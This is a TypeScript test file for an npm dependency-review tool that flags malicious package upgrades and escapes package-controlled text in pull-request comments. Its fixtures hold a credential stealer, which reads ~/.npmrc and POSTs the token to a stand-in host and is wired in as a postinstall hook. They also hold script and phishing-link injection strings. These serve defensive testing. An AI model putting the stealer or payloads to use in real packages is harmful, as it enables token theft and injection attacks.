import { describe, expect, it } from 'vitest';
import { makeTgz } from '../tarball/testdata/make-tarball.js';
import { analyseJob } from './analyse-job.js';
import type { LockedPackage, PackageChange } from './classify.js';
import { judgeAddition, judgePair, overallVerdict, type ReviewedChange, unanalysed } from './judge.js';
import { escapeHtml, renderReviewMarkdown } from './render-markdown.js';
import { countOf, type Review } from './review.js';

// Names, versions, paths and code a hostile package or lockfile could carry into a PR comment.
const HOSTILE = 'evil|pkg<script>alert(1)</script>`@someone`](https://phish.invalid)\n# heading';
const HOSTILE_VERSION = '1.0.1|<b>x</b>';

const STEALER = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');

const NO_LOOKUP = { lookup: { offline: true, projectDir: '.' }, factsCache: false };

const locked = (name: string, version: string): LockedPackage => ({
  name,
  version,
  source: 'registry',
  dev: false,
});

const side = async (name: string, version: string, files: Record<string, string>, scripts?: object) => {
  const bytes = await makeTgz([
    {
      name: 'package/package.json',
      content: JSON.stringify({ name, version, ...(scripts ? { scripts } : {}) }),
    },
    ...Object.entries(files).map(([file, content]) => ({ name: `package/${file}`, content })),
  ]);
  return { version, integrity: `sha512-${version}`, bytes };
};

const turn = async (name: string, to: string, file = 'setup.js'): Promise<ReviewedChange> => {
  const change: PackageChange = { kind: 'upgraded', name, from: locked(name, '1.0.0'), to: locked(name, to) };
  const result = await analyseJob({
    ...NO_LOOKUP,
    name,
    from: await side(name, '1.0.0', { 'index.js': 'module.exports = 1;' }),
    to: await side(
      name,
      to,
      { 'index.js': 'module.exports = 1;', [file]: STEALER },
      { postinstall: `node ${file}` },
    ),
  });
  if (result.status !== 'analysed' || !result.diff) throw new Error('not analysed');
  return judgePair(change, result.to, result.diff, false);
};

const reviewOf = (changes: ReviewedChange[]): Review => ({
  verdict: overallVerdict(changes),
  counts: countOf(changes),
  changes,
  analyzer: '0.0.0',
  durationMs: 0,
});

/** The text with every code span removed (their content is shown literally, never parsed). */
const outsideCode = (text: string): string => {
  let out = '';
  let at = 0;
  while (at < text.length) {
    const open = /`+/g;
    open.lastIndex = at;
    const start = open.exec(text);
    if (!start) break;
    const close = new RegExp(`(?<!\`)${start[0]}(?!\`)`, 'g');
    close.lastIndex = start.index + start[0].length;
    const end = close.exec(text);
    if (!end) break;
    out += text.slice(at, start.index);
    at = end.index + end[0].length;
  }
  return out + text.slice(at);
};

/** `|` that separate cells: not escaped, not inside a code span's `\|`. */
const cellSeparators = (row: string): number => row.replace(/\\\|/g, '').split('|').length - 1;

describe('renderReviewMarkdown', () => {
  it('headlines the verdict, tabulates the turn, folds benign changes and details the risky one', async () => {
    const malicious = await turn('left-padder', '1.0.1');
    expect(malicious.verdict).toBe('malicious');
    const addition = await analyseJob({
      ...NO_LOOKUP,
      name: 'fresh',
      to: await side('fresh', '2.0.0', { 'index.js': 'module.exports = 2;' }),
    });
    if (addition.status !== 'analysed') throw new Error('not analysed');
    const added = judgeAddition(
      { kind: 'added', name: 'fresh', to: locked('fresh', '2.0.0') },
      addition.to,
      false,
    );
    const removed = unanalysed({ kind: 'removed', name: 'old', from: locked('old', '0.1.0') }, undefined);
    const text = renderReviewMarkdown(reviewOf([added, malicious, removed]), {
      base: 'main:package-lock.json',
      head: 'package-lock.json',
    });
    const lines = text.split('\n');
    expect(lines[0]).toBe('### 🔴 Bulwark dependency review: malicious');
    expect(text).toContain('| 🔴 malicious | upgraded | `left-padder` | `1.0.0` | `1.0.1` |');
    expect(text).toContain('<details><summary>2 benign changes</summary>');
    expect(text).toContain('| 🟢 benign | removed | `old` | `0.1.0` |  |  |');
    expect(text).toContain(
      '<summary>🔴 <code>left-padder</code> 1.0.0 → 1.0.1 (upgraded): <b>malicious</b></summary>',
    );
    expect(text).toMatch(/\*\*install scripts:\*\* `postinstall: node setup.js`/);
    expect(text).toContain('| severity | rule | where | what |');
    // one <details> for the risky package, one for the folded benign table
    expect(text.match(/<details>/g)).toHaveLength(2);
    expect(text.match(/<\/details>/g)).toHaveLength(2);
  });

  it('escapes everything a package or lockfile controls: no HTML, links, mentions, headings or extra cells', async () => {
    const hostile = await turn(HOSTILE, HOSTILE_VERSION, 'setup|<img src=x>.js');
    const text = renderReviewMarkdown(reviewOf([hostile]), { base: 'a|b', head: '<i>h</i>' });
    const prose = outsideCode(
      text
        .split('\n')
        .filter((line) => !line.startsWith('<summary>'))
        .join('\n'),
    );
    expect(prose).not.toMatch(/<script|<img|<b>x|<i>h/);
    expect(prose).not.toMatch(/^# heading/m);
    expect(prose).not.toMatch(/@someone/);
    expect(prose).not.toContain('](https://phish.invalid)');
    expect(text).toContain(
      '``evil\\|pkg<script>alert(1)</script>`@someone`](https://phish.invalid) # heading``',
    );
    for (const row of text.split('\n').filter((line) => line.startsWith('| '))) {
      const header = row.startsWith('| verdict') || row.startsWith('| 🔴') ? 7 : 5;
      expect(cellSeparators(row), row).toBe(header);
    }
    const summary = text.split('\n').find((line) => line.startsWith('<summary>'))!;
    expect(summary).toContain(
      '<code>evil|pkg&lt;script&gt;alert(1)&lt;/script&gt;`@&#8203;someone`](https:&#8203;//phish.invalid) # heading</code>',
    );
  });

  it('stays under GitHub’s comment limit and says what it left out', async () => {
    const one = await turn('x', '1.0.1');
    const many = Array.from({ length: 400 }, (_, i) => ({
      ...one,
      change: { ...one.change, name: `pkg-${i}` } as PackageChange,
      reasons: [...one.reasons, 'y'.repeat(250)],
    }));
    const text = renderReviewMarkdown(reviewOf(many), { base: 'b', head: 'h' });
    expect(text.length).toBeLessThan(65_536);
    expect(text).toMatch(/Details of \d+ more packages left out to fit a comment/);
  });

  it('says in the headline when changes could not be analysed, and lists them with the reason', () => {
    const offline = unanalysed(
      { kind: 'added', name: 'remote', to: locked('remote', '1.0.0') },
      '1.0.0 not analysed (offline): tarball is not in the cache (offline mode)',
    );
    const text = renderReviewMarkdown(reviewOf([offline]), { base: 'b', head: 'h' });
    expect(text).toContain('### 🟢 Bulwark dependency review: benign (1 not analysed)');
    expect(text).toContain('| ⚪ unknown | added | `remote` |  | `1.0.0` | 1\\.0.0 not analysed (offline)');
  });

  it('says so when nothing changed', () => {
    const text = renderReviewMarkdown(reviewOf([]), { base: 'b', head: 'h' });
    expect(text).toContain('### 🟢 Bulwark dependency review: benign');
    expect(text).toContain('No dependency changes.');
  });
});

describe('escapeHtml', () => {
  it('escapes the HTML specials, drops controls and defuses mentions', () => {
    expect(escapeHtml('<a href="x">\'&\u001b[31m @org/team')).toBe(
      '&lt;a href=&quot;x&quot;&gt;&#39;&amp; [31m @&#8203;org/team',
    );
  });
});
